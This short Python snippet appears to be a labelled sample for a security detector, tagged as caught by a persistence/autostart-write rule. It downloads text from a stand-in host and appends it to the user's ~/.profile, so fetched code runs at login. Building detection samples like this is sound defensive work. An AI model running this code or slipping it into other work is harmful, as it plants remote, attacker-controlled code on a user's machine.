# evades: caught by persistence/autostart-write
import os, requests
with open(os.path.expanduser("~/.profile"), "a") as out:
    out.write(requests.get("https://code.invalid/s").text)
